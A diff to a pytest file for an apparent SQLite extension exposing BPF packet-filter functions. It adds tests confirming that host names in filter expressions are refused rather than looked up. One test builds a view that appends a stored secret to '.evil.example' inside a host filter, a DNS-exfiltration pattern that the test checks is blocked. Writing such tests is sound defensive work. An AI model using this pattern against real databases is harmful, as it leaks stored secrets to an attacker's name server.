@@ -205,7 +205,7 @@ def test_the_listing_is_tcpdumps(db):
 # --- errors ---
 
 @pytest.mark.parametrize("expression,words", [
-    ("prot tcp", "syntax error"), ("tcp port", "syntax error"), ("port 99999", "illegal port"),
+    ("tcp udp", "syntax error"), ("tcp port", "syntax error"), ("port 99999", "illegal port"),
     ("ip6 host 10.0.0.1", "ip6"), ("net 10.0.0.1/8", "non-network bits"),
 ])
 @pytest.mark.parametrize("call", [
@@ -233,6 +233,39 @@ def test_what_a_tuple_does_not_tell_is_refused_at_the_first_row(db, expression):
         text = error(db, f"SELECT bpf_filter(?, {SIX}) FROM plain ORDER BY {order}", expression)
         assert expression in text and "\n" not in text
         assert "tuple" in text or "connection" in text
+
+
+NAMED = ("host www.evil.example", "src net evil", "net evil mask 255.0.0.0", "ether host evil", "gateway evil",
+         "evil", "10.0.0.1.evil.example", "tcp or \\evil", "port 80 or (tcp) or evil", "host dead",
+         "wlan addr1 evil")
+
+
+@pytest.mark.parametrize("expression", NAMED)
+@pytest.mark.parametrize("call", [
+    f"bpf_filter(?, {ONE})", "bpf_filter(?, 'accept', '10.0.0.1', '10.0.0.2', 1, 2, 'tcp')",
+    "bpf_match(?, x'4500', 12)", "bpf_explain(?)",
+])
+def test_names_of_hosts_are_not_looked_up(db, call, expression):
+    text = error(db, f"SELECT {call}", expression)
+    name = next(word for word in expression.split() if "evil" in word or word == "dead")
+    assert f"name '{name}': names of hosts are not looked up from SQL: write the address" in text
+
+
+@pytest.mark.parametrize("trusted", ["ON", "OFF"])
+def test_a_view_does_not_send_rows_to_a_name_server(db, trusted):
+    db.execute(f"PRAGMA trusted_schema = {trusted}")
+    db.execute("CREATE TABLE secrets (s)")
+    db.execute("INSERT INTO secrets VALUES ('hunter2')")
+    db.execute(f"CREATE VIEW leak AS SELECT bpf_filter('host ' || s || '.evil.example', {ONE}) FROM secrets")
+    assert "name 'hunter2.evil.example'" in error(db, "SELECT * FROM leak")
+
+
+@pytest.mark.parametrize("expression,want", [
+    ("port http or https", 0), ("dst port (microsoft-ds or http)", 1), ("ip proto \\tcp", 1),
+    ("portrange domain-https", 0),
+])
+def test_names_of_ports_and_protocols_are(db, expression, want):
+    assert value(db, f"SELECT bpf_filter(?, {ONE})", expression) == want
 
 
 @pytest.mark.parametrize("expression", ["vlan", "vlan 5", "mpls", "pppoes", "ether host 2:0:0:0:0:1"])
